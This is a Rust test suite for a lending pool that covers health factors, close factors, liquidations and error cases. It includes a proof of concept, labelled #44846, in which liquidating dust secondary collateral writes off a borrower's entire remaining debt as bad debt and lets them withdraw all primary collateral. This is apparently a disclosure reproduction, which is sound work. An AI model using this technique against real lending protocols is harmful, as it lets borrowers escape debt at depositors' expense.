use k2_lend::math::WAD;
use k2_lend::pool::Pool;
use k2_lend::position::{PoolError, ReserveParams};
use k2_lend::reflector::MockReflector;

const D7: u128 = 10_000_000; // 1 token at 7 decimals
const ONE_DOLLAR: u128 = 100_000_000_000_000;

fn params(ltv: u32, liquidation_threshold: u32, liquidation_bonus: u32) -> ReserveParams {
    ReserveParams {
        decimals: 7,
        ltv,
        liquidation_threshold,
        liquidation_bonus,
        reserve_factor: 1000,
        supply_cap: 0,
        borrow_cap: 0,
        borrowing_enabled: true,
        flashloan_enabled: true,
    }
}

fn deploy_reserve(pool: &mut Pool, ltv: u32, liquidation_threshold: u32, liquidation_bonus: u32) -> usize {
    pool.init_reserve(params(ltv, liquidation_threshold, liquidation_bonus), ONE_DOLLAR)
        .unwrap()
}

/// Pool with A (primary collateral), B (debt) and C (dust collateral); LP supplies 80,000 B,
/// the user supplies 10,000 A and 100 C and borrows 8,000 B.
struct Scenario {
    pool: Pool,
    a: usize,
    b: usize,
    c: usize,
    lp: usize,
    user: usize,
    liquidator: usize,
}

fn scenario() -> Scenario {
    let mut pool = Pool::new();
    let a = deploy_reserve(&mut pool, 8000, 8500, 500);
    let b = deploy_reserve(&mut pool, 8000, 8500, 500);
    let c = deploy_reserve(&mut pool, 8000, 8500, 500);
    let lp = pool.open_account();
    let user = pool.open_account();
    let liquidator = pool.open_account();
    pool.supply(lp, b, 80_000 * D7).unwrap();
    pool.supply(user, a, 10_000 * D7).unwrap();
    pool.supply(user, c, 100 * D7).unwrap();
    pool.borrow(user, b, 8_000 * D7).unwrap();
    Scenario { pool, a, b, c, lp, user, liquidator }
}

/// PoC #44846: dust secondary-collateral liquidation erases all debt as
/// bad debt while the user keeps their primary collateral.
#[test]
fn poc_44846_single_asset_cap_forgives_all_debt() {
    let mut router = Pool::new();

    // A = primary collateral, B = debt, C = dust secondary collateral
    let asset_a = deploy_reserve(&mut router, 8000, 8500, 500);
    let asset_b = deploy_reserve(&mut router, 8000, 8500, 500);
    let asset_c = deploy_reserve(&mut router, 8000, 8500, 500);

    let lp = router.open_account();
    let user = router.open_account();
    let liquidator = router.open_account();

    // LP provides B liquidity (10x borrow amount)
    let lp_amt = 80_000 * D7;
    router.supply(lp, asset_b, lp_amt).unwrap();

    // User: 10,000 A primary collateral + 100 C dust collateral
    let a_amt = 10_000 * D7;
    router.supply(user, asset_a, a_amt).unwrap();
    let c_amt = 100 * D7;
    router.supply(user, asset_c, c_amt).unwrap();

    // User borrows 8,000 B
    let b_amt = 8_000 * D7;
    router.borrow(user, asset_b, b_amt).unwrap();

    let pre = router.get_user_account_data(user).unwrap();
    assert!(pre.health_factor >= WAD, "healthy at start, HF={}", pre.health_factor);

    // Crash A and C to $0.90 (B stays $1.00): HF = (10100*0.9*0.85)/8000 ≈ 0.966
    router.set_asset_price(asset_a, 90_000_000_000_000).unwrap();
    router.set_asset_price(asset_c, 90_000_000_000_000).unwrap();

    let ins = router.get_user_account_data(user).unwrap();
    assert!(
        ins.health_factor < WAD,
        "position must be insolvent, HF={}",
        ins.health_factor
    );
    assert!(
        ins.health_factor >= 500_000_000_000_000,
        "HF must stay above 0.5 (close factor 5000), HF={}",
        ins.health_factor
    );

    // Liquidator picks DUST collateral C and requests 100 B (worth $100).
    let dtc = 100 * D7;
    let result = router.liquidation_call(
        liquidator,
        asset_c, // dust collateral (NOT the primary A!)
        asset_b,
        user,
        dtc,
        false,
    );
    assert!(result.is_ok(), "liquidation of C should succeed: {:?}", result);

    // === EXPLOIT VERIFICATION ===
    let post = router.get_user_account_data(user).unwrap();
    let deficit = router.get_reserve_deficit(asset_b).unwrap();

    // The bug: remaining debt (~7,904) was burned into deficit.
    assert!(
        post.total_debt_base < 10 * D7,
        "BUG CONFIRMED if true: debt erased (was 8000, now {})",
        post.total_debt_base
    );
    assert!(
        deficit > 7_000 * D7,
        "BUG CONFIRMED if true: ~7900 moved to reserve deficit (deficit={})",
        deficit
    );

    // The user still holds their primary collateral and can withdraw it all.
    let a_bal = router.collateral_balance(user, asset_a).unwrap();
    assert!(a_bal >= 9_999 * D7, "user kept primary collateral: {}", a_bal);
    let w = router.withdraw(user, asset_a, a_amt);
    assert!(
        w.is_ok(),
        "BUG CONFIRMED if true: user withdraws ALL primary collateral debt-free: {:?}",
        w
    );
}

#[test]
fn reflector_reports_fourteen_decimals() {
    let env = soroban_sdk::Env::default();
    assert_eq!(MockReflector::decimals(env), 14);
}

#[test]
fn account_data_exact_values() {
    let s = scenario();
    let d = s.pool.get_user_account_data(s.user).unwrap();
    assert_eq!(d.total_collateral_base, 1_010_000_000_000_000_000);
    assert_eq!(d.total_debt_base, 800_000_000_000_000_000);
    assert_eq!(d.threshold_collateral_base, 858_500_000_000_000_000);
    assert_eq!(d.borrowing_power_base, 808_000_000_000_000_000);
    assert_eq!(d.health_factor, 1_073_125_000_000_000_000);
    let lp = s.pool.get_user_account_data(s.lp).unwrap();
    assert_eq!(lp.total_debt_base, 0);
    assert_eq!(lp.health_factor, u128::MAX);
}

#[test]
fn health_factor_after_price_drop() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    let d = s.pool.get_user_account_data(s.user).unwrap();
    assert_eq!(d.health_factor, 965_812_500_000_000_000);
}

#[test]
fn capped_leg_exact_outcome() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    let o = s.pool.liquidation_call(s.liquidator, s.c, s.b, s.user, 100 * D7, false).unwrap();
    assert!(o.collateral_cap_triggered);
    assert_eq!(o.collateral_seized, 100 * D7);
    assert_eq!(o.debt_repaid, 857_142_858);
    assert_eq!(o.debt_written_off, 79_142_857_142);
    assert_eq!(s.pool.debt_balance(s.user, s.b), Ok(0));
    assert_eq!(s.pool.collateral_balance(s.user, s.c), Ok(0));
    assert_eq!(s.pool.collateral_balance(s.user, s.a), Ok(10_000 * D7));
    assert_eq!(s.pool.get_reserve_deficit(s.b), Ok(79_142_857_142));
    assert_eq!(s.pool.get_reserve_deficit(s.a), Ok(0));
    assert_eq!(s.pool.get_reserve_deficit(s.c), Ok(0));
    // repaid tokens enter the debt reserve, seized tokens leave the collateral reserve
    assert_eq!(s.pool.get_reserve_liquidity(s.b), Ok(72_000 * D7 + 857_142_858));
    assert_eq!(s.pool.get_reserve_liquidity(s.c), Ok(0));
    // conservation: old debt = new debt + repaid + written off
    assert_eq!(8_000 * D7, 0 + o.debt_repaid + o.debt_written_off);
}

#[test]
fn uncapped_leg_writes_nothing_off() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    // 100 B against the primary collateral A: 100 * 1.05 / 0.9 = 116.6666666 A
    let o = s.pool.liquidation_call(s.liquidator, s.a, s.b, s.user, 100 * D7, false).unwrap();
    assert!(!o.collateral_cap_triggered);
    assert_eq!(o.debt_repaid, 100 * D7);
    assert_eq!(o.collateral_seized, 1_166_666_666);
    assert_eq!(o.debt_written_off, 0);
    assert_eq!(s.pool.debt_balance(s.user, s.b), Ok(7_900 * D7));
    assert_eq!(s.pool.collateral_balance(s.user, s.a), Ok(10_000 * D7 - 1_166_666_666));
    assert_eq!(s.pool.collateral_balance(s.user, s.c), Ok(100 * D7));
    assert_eq!(s.pool.get_reserve_deficit(s.b), Ok(0));
}

#[test]
fn receive_a_token_credits_liquidator() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    let o = s.pool.liquidation_call(s.liquidator, s.a, s.b, s.user, 100 * D7, true).unwrap();
    assert_eq!(s.pool.collateral_balance(s.liquidator, s.a), Ok(o.collateral_seized));
    assert_eq!(s.pool.get_reserve_liquidity(s.a), Ok(10_000 * D7));
}

#[test]
fn fresh_borrow_is_not_liquidatable() {
    let mut s = scenario();
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.c, s.b, s.user, 100 * D7, false),
        Err(PoolError::NotLiquidatable)
    );
}

#[test]
fn close_factor_limits_the_leg() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    // HF is above 0.5: at most half of the 8,000 B may be repaid
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.a, s.b, s.user, 4_000 * D7 + 1, false),
        Err(PoolError::CloseFactorExceeded)
    );
    assert!(s.pool.liquidation_call(s.liquidator, s.a, s.b, s.user, 4_000 * D7, false).is_ok());
}

#[test]
fn full_close_factor_below_half() {
    let mut s = scenario();
    // A and C at $0.40: HF = 10100*0.4*0.85/8000 = 0.42925 < 0.5
    s.pool.set_asset_price(s.a, 40_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 40_000_000_000_000).unwrap();
    let d = s.pool.get_user_account_data(s.user).unwrap();
    assert_eq!(d.health_factor, 429_250_000_000_000_000);
    // the whole debt may be requested; A cannot cover it, so the cap triggers
    let o = s.pool.liquidation_call(s.liquidator, s.a, s.b, s.user, 8_000 * D7, false).unwrap();
    assert!(o.collateral_cap_triggered);
    assert_eq!(s.pool.debt_balance(s.user, s.b), Ok(0));
}

#[test]
fn supply_then_withdraw_restores_balances() {
    let mut s = scenario();
    s.pool.supply(s.liquidator, s.a, 5 * D7).unwrap();
    assert_eq!(s.pool.collateral_balance(s.liquidator, s.a), Ok(5 * D7));
    assert_eq!(s.pool.get_reserve_liquidity(s.a), Ok(10_005 * D7));
    s.pool.withdraw(s.liquidator, s.a, 5 * D7).unwrap();
    assert_eq!(s.pool.collateral_balance(s.liquidator, s.a), Ok(0));
    assert_eq!(s.pool.get_reserve_liquidity(s.a), Ok(10_000 * D7));
}

#[test]
fn withdraw_keeps_debtor_healthy() {
    let mut s = scenario();
    // withdrawing all of A would leave 100 C against 8,000 B
    assert_eq!(s.pool.withdraw(s.user, s.a, 10_000 * D7), Err(PoolError::HealthFactorTooLow));
    // a small withdrawal keeps HF above one
    assert!(s.pool.withdraw(s.user, s.a, 10 * D7).is_ok());
    assert!(s.pool.get_user_account_data(s.user).unwrap().health_factor >= WAD);
}

#[test]
fn borrow_errors() {
    let mut s = scenario();
    assert_eq!(s.pool.borrow(s.user, 7, D7), Err(PoolError::UnknownAsset));
    assert_eq!(s.pool.borrow(9, s.b, D7), Err(PoolError::UnknownAccount));
    assert_eq!(s.pool.borrow(s.user, s.b, 0), Err(PoolError::InvalidAmount));
    assert_eq!(s.pool.borrow(s.user, s.b, 1_000_000 * D7), Err(PoolError::InsufficientLiquidity));
    // borrowing power is 8,080 B; 8,000 are already owed
    assert_eq!(s.pool.borrow(s.user, s.b, 81 * D7), Err(PoolError::LtvExceeded));
    assert!(s.pool.borrow(s.user, s.b, 80 * D7).is_ok());
    let mut p = Pool::new();
    let mut off = params(8000, 8500, 500);
    off.borrowing_enabled = false;
    let x = p.init_reserve(off, ONE_DOLLAR).unwrap();
    let acct = p.open_account();
    p.supply(acct, x, D7).unwrap();
    assert_eq!(p.borrow(acct, x, 1), Err(PoolError::BorrowingDisabled));
}

#[test]
fn supply_and_withdraw_errors() {
    let mut s = scenario();
    assert_eq!(s.pool.supply(s.user, 3, D7), Err(PoolError::UnknownAsset));
    assert_eq!(s.pool.supply(3, s.a, D7), Err(PoolError::UnknownAccount));
    assert_eq!(s.pool.supply(s.user, s.a, 0), Err(PoolError::InvalidAmount));
    assert_eq!(s.pool.supply(s.user, s.a, u128::MAX), Err(PoolError::MathOverflow));
    assert_eq!(s.pool.withdraw(s.user, s.a, 0), Err(PoolError::InvalidAmount));
    assert_eq!(
        s.pool.withdraw(s.user, s.a, 10_001 * D7),
        Err(PoolError::InsufficientCollateral)
    );
    // the LP's B was lent out: only 72,000 B remain in the reserve
    assert_eq!(
        s.pool.withdraw(s.lp, s.b, 80_000 * D7),
        Err(PoolError::InsufficientLiquidity)
    );
}

#[test]
fn liquidation_errors() {
    let mut s = scenario();
    s.pool.set_asset_price(s.a, 90_000_000_000_000).unwrap();
    s.pool.set_asset_price(s.c, 90_000_000_000_000).unwrap();
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, 5, s.b, s.user, D7, false),
        Err(PoolError::UnknownAsset)
    );
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.c, s.b, 8, D7, false),
        Err(PoolError::UnknownAccount)
    );
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.c, s.b, s.user, 0, false),
        Err(PoolError::InvalidAmount)
    );
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.c, s.a, s.user, D7, false),
        Err(PoolError::NoDebt)
    );
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.b, s.b, s.user, D7, false),
        Err(PoolError::NoCollateral)
    );
    assert_eq!(
        s.pool.liquidation_call(s.liquidator, s.c, s.b, s.lp, D7, false),
        Err(PoolError::NotLiquidatable)
    );
}

#[test]
fn reserve_listing_errors() {
    let mut p = Pool::new();
    assert_eq!(p.init_reserve(params(9000, 8500, 500), ONE_DOLLAR), Err(PoolError::InvalidParams));
    assert_eq!(p.init_reserve(params(8000, 8500, 500), 0), Err(PoolError::InvalidPrice));
    let x = p.init_reserve(params(8000, 8500, 500), ONE_DOLLAR).unwrap();
    assert_eq!(x, 0);
    assert_eq!(p.set_asset_price(1, ONE_DOLLAR), Err(PoolError::UnknownAsset));
    assert_eq!(p.set_asset_price(x, 0), Err(PoolError::InvalidPrice));
    assert_eq!(p.get_reserve_deficit(1), Err(PoolError::UnknownAsset));
    assert_eq!(p.get_user_account_data(0).map(|d| d.health_factor), Err(PoolError::UnknownAccount));
    // an account opened before a listing gets zero balances in it
    let acct = p.open_account();
    let y = p.init_reserve(params(8000, 8500, 500), ONE_DOLLAR).unwrap();
    assert_eq!(p.collateral_balance(acct, y), Ok(0));
    assert_eq!(p.debt_balance(acct, y), Ok(0));
}

#[test]
fn valuation_overflow_is_reported() {
    let mut p = Pool::new();
    let x = p.init_reserve(params(8000, 8500, 500), u128::MAX).unwrap();
    let acct = p.open_account();
    p.supply(acct, x, 2).unwrap();
    assert_eq!(p.get_user_account_data(acct), Err(PoolError::MathOverflow));
}
